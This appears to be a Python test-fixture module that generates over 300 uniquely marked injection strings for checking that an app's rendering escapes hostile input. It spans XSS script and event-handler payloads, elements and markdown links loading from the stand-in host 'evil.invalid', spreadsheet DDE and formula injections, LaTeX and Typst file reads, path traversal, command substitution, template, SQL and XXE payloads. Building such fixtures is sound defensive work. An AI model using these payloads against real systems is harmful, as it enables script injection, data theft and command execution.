# ruff: noqa: E501, RUF005 - one payload is one line, however long; lists are made and then lengthened
"""Wording that tries to be more than wording: over 300 pieces, each to carry a mark of its own. Our own writing.

`PAYLOADS` have `MARK` where a reader would recognise them and `FOREIGN` where they would call out.
"""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "zqMARKqz"
FOREIGN: Final = "evil.invalid"
RUN: Final = "window.pwned=1"

_SCRIPT = (
    f"<script>{RUN}</script>{MARK}",
    f"<ScRiPt >{RUN}</sCrIpT >{MARK}",
    f"<script src=//{FOREIGN}/{MARK}.js></script>",
    f"</title><script>{RUN}</script>{MARK}",
    f"</textarea><script>{RUN}</script>{MARK}",
    f"--><script>{RUN}</script>{MARK}",
    f"]]><script>{RUN}</script>{MARK}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>{MARK}",
    f'"><script>{RUN}</script>{MARK}',
    f"'><script>{RUN}</script>{MARK}",
    f"</style><script>{RUN}</script>{MARK}",
    f"<script\t>{RUN}</script\t>{MARK}",
    f"<script/x>{RUN}</script>{MARK}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;{MARK}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;{MARK}",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;{MARK}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e{MARK}",
    f"%3Cscript%3E{RUN}%3C/script%3E{MARK}",
    f"＜script＞{RUN}＜/script＞{MARK}",
    f"javascript:{RUN}//{MARK}",
)
_EVENTS = tuple(
    f"<{tag} {event}={quote}{RUN}{quote}>{MARK}"
    for (tag, event), quote in product(
        (
            ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"),
            ("audio src=x", "onerror"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
            ("select autofocus", "onfocus"), ("marquee", "onstart"), ("div", "onmouseover"),
            ("svg><animate attributeName=x dur=1s", "onbegin"), ("a href=# autofocus tabindex=1", "onfocus"),
        ),
        ('"', "'", ""),
    )
)  # fmt: skip
_ELEMENTS = tuple(
    f"<{element}>{MARK}"
    for element in (
        f"iframe src=//{FOREIGN}/", f"iframe srcdoc='<script>{RUN}</script>'", f"object data=//{FOREIGN}/",
        f"embed src=//{FOREIGN}/", f"link rel=stylesheet href=//{FOREIGN}/x.css", f"base href=//{FOREIGN}/",
        f"meta http-equiv=refresh content='0;url=//{FOREIGN}/'", f"form action=//{FOREIGN}/><button", "math><mi",
        f"img src=//{FOREIGN}/p.png", f"img srcset=//{FOREIGN}/p.png", f"svg><image href=//{FOREIGN}/p.png",
        f"svg><use href=//{FOREIGN}/p.svg#x", f"video poster=//{FOREIGN}/p.png", f"a href=//{FOREIGN}/",
        "a href=javascript:window.pwned=1", "a href=data:text/html,x", "b", "br", "i", "u", "sub", "h1", "table><tr><td",
        f"style>@import '//{FOREIGN}/x.css';</style", f"div style='background:url(//{FOREIGN}/p.png)'", "plaintext",
        "noscript", "template", "xmp", "dialog open", "portal", "slot", "title", "textarea", "keygen", "isindex",
    )
)  # fmt: skip
_MARKDOWN = tuple(
    wrapped
    for target in (f"https://{FOREIGN}/{MARK}", f"//{FOREIGN}/{MARK}", f"javascript:{RUN}", f"data:text/html,{MARK}")
    for wrapped in (
        f"[{MARK}]({target})", f"![{MARK}]({target})", f"[![{MARK}]({target})]({target})", f"<{target}> {MARK}",
        f"[{MARK}][1]\n\n[1]: {target}", f"[{MARK}]({target} \"title\")",
    )
) + (
    f"https://{FOREIGN}/{MARK}", f"www.{FOREIGN}/{MARK}", f"HTTPS://{FOREIGN}/{MARK}", f"mailto:{MARK}@{FOREIGN}",
    f"{MARK}@{FOREIGN}", f"xmpp:{MARK}@{FOREIGN}", f"# {MARK}", f"> {MARK}", f"- {MARK}", f"1. {MARK}", f"* {MARK}",
    f"**{MARK}**", f"__{MARK}__", f"~~{MARK}~~", f"`{MARK}`", f"```\n{MARK}\n```", f"| {MARK} |\n|---|\n| x |",
    f"{MARK}\n===", f"{MARK}\n---", f"    {MARK}", f"[^1] {MARK}\n\n[^1]: x", f":red[{MARK}]", f":blue-background[{MARK}]",
    f":material/home: {MARK}", f":smile: {MARK}", f":small[{MARK}]", f":rainbow[{MARK}]", f":streamlit: {MARK}",
    f":violet-badge[{MARK}]", f":material/thumb_up: {MARK}", f":gray[:red[{MARK}]]", f"{MARK} -> x", f"{MARK} <-> x",
    f"{MARK} -- x", f"{MARK} >= x", f"\\[{MARK}](x)", f"\\\\[{MARK}](//{FOREIGN})", f"{MARK}  \nnew line", f"{MARK}\\\nx",
)  # fmt: skip
_LATEX = tuple(
    f"{sign}{body}{other} {MARK}"
    for sign, other in (("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"))
    for body in (
        "x^2", "\\frac{1}{0}", f"\\href{{https://{FOREIGN}}}{{x}}", f"\\url{{https://{FOREIGN}}}", "\\input{/etc/passwd}",
        "\\write18{id}", f"\\includegraphics{{//{FOREIGN}/p.png}}", "\\def\\x{\\x\\x}\\x",
    )
)  # fmt: skip
_FORMULAS = tuple(
    f"{sign}{body}"
    for sign in ("=", "+", "-", "@", "\t=", " =", "＝", "＋", "－", "＠", "\r=", "\n=", "'=", '"=', ";=", "\u00a0=", "\ufeff=")
    for body in (f"1+1&\"{MARK}\"", f"HYPERLINK(\"https://{FOREIGN}\",\"{MARK}\")")
) + (
    f"=cmd|' /C calc'!A0 {MARK}", f"=DDE(\"cmd\";\"/C calc\";\"{MARK}\")", f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"=WEBSERVICE(\"https://{FOREIGN}/{MARK}\")", f"=IMPORTXML(\"https://{FOREIGN}/{MARK}\",\"//a\")",
    f"=IMAGE(\"https://{FOREIGN}/{MARK}\")", f"of:=1+1 {MARK}", f"{{=1+1}} {MARK}", f"-2+3+cmd|' /C calc'!D2 {MARK}",
    f"+SUM(1,1) {MARK}", f"=1+1\",{MARK}", f"=RTD(\"x\",,\"{MARK}\")", f"=EXEC(\"id\") {MARK}",
)  # fmt: skip
_BIDI = tuple(
    f"{sign}{MARK}{sign}tpircs"
    for sign in (
        "\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c",
        "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2028", "\u2029", "\u0085", "\u115f", "\u3164",
        "\U000e0041", "\ufe0f", "\u0300" * 40,
    )
)  # fmt: skip
_PATHS = (
    f"../../etc/passwd {MARK}", f"..\\..\\windows\\{MARK}", f"/etc/passwd {MARK}", f"file:///etc/passwd {MARK}",
    f"C:\\{MARK}", f"\\\\{FOREIGN}\\share\\{MARK}", f"....//....//{MARK}", f"%2e%2e%2f{MARK}", f"..%c0%af{MARK}", f"~/{MARK}",
    f"CON {MARK}", f"{MARK}.lnk", f"{MARK}.exe", f"|id {MARK}", f";id {MARK}", f"$(id) {MARK}", f"`id` {MARK}", f"&& id {MARK}",
)  # fmt: skip
_TEMPLATES = (
    f"{{{{7*7}}}} {MARK}", f"{{% raw %}}{MARK}", f"${{7*7}} {MARK}", f"#{{7*7}} {MARK}", f"<%= 7*7 %> {MARK}", f"%s%n {MARK}",
    f"{{0.__class__}} {MARK}", f"{{{{config}}}} {MARK}", f"{{{{''.__class__}}}} {MARK}", f"%{{x}} {MARK}", f"%{{customdata}} {MARK}",
    f"%(x)s {MARK}", f"@{{x}} {MARK}", f"*{{7*7}} {MARK}", f"[[7*7]] {MARK}", f"{{#if}} {MARK}",
)  # fmt: skip
_SQL = (
    f"'; DROP TABLE audit_entry; -- {MARK}", f"' OR '1'='1 {MARK}", f'" OR ""=" {MARK}', f"1; SELECT 1 {MARK}", f"%' {MARK}",
    f"' UNION SELECT password_hash FROM account -- {MARK}", f"\\'; -- {MARK}", f":name {MARK}", f"?1 {MARK}", f"/* {MARK} */",
)  # fmt: skip
_TYPST = (
    f'#import "@preview/x:1.0.0" {MARK}', f'#eval("1+1") {MARK}', f'#read("/etc/passwd") {MARK}', f"#sys {MARK}", f"= {MARK}",
    f'#link("https://{FOREIGN}")[{MARK}]', f'#image("//{FOREIGN}/p.png") {MARK}', f"*{MARK}*", f"_{MARK}_", f"<{MARK}>",
    f"#set page(fill: red) {MARK}", f"@{MARK}", f"#panic() {MARK}", f"// {MARK}",
)  # fmt: skip
_PLOTLY = (
    f"<b>{MARK}</b>", f"<br>{MARK}", f'<a href="https://{FOREIGN}">{MARK}</a>', f'<a href="javascript:{RUN}">{MARK}</a>',
    f"<span style='color:red'>{MARK}</span>", f"<extra>{MARK}</extra>", f"<sup>{MARK}</sup>", f"<i>{MARK}</i>", f"<s>{MARK}</s>",
    f"<em>{MARK}</em>",
)  # fmt: skip
_ODD = (
    f"{MARK}\x00x", f"{MARK}\x1b[31mred", f"{MARK}\x07", f"{MARK}\x7f", f"{MARK}\ud7ff", f"{MARK}\ufffe", f"{MARK}\x0b\x0c",
    f"{MARK} " + "long " * 600, MARK + "x" * 2000, f"{MARK} " + "🏳️‍🌈" * 100, f"{MARK}&nbsp;&amp;&quot;&#0;", f"{MARK}\r\nSet-Cookie: x=1",
    f"{MARK}\n\n\n\n\n", f"{MARK}]]&gt;", f"<![CDATA[{MARK}]]>", f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{MARK}",
    f"<?xml version='1.0'?>{MARK}", f"expression({RUN}){MARK}", f"url(//{FOREIGN}/{MARK})", f"@import '//{FOREIGN}/{MARK}'",
)  # fmt: skip

KINDS: Final = {
    "script": _SCRIPT, "events": _EVENTS, "elements": _ELEMENTS, "markdown": _MARKDOWN, "latex": _LATEX,
    "formula": _FORMULAS, "direction": _BIDI, "path": _PATHS, "template": _TEMPLATES, "sql": _SQL, "typst": _TYPST,
    "plotly": _PLOTLY, "odd": _ODD,
}  # fmt: skip


def payloads() -> list[tuple[str, str]]:
    """Give mark and wording of every payload, each mark once: 'zq001qz'."""
    found = [wording for kind in KINDS.values() for wording in kind]
    marks = [f"zq{at:03}qz" for at in range(1, len(found) + 1)]
    return [(mark, wording.replace(MARK, mark)) for mark, wording in zip(marks, found, strict=True)]
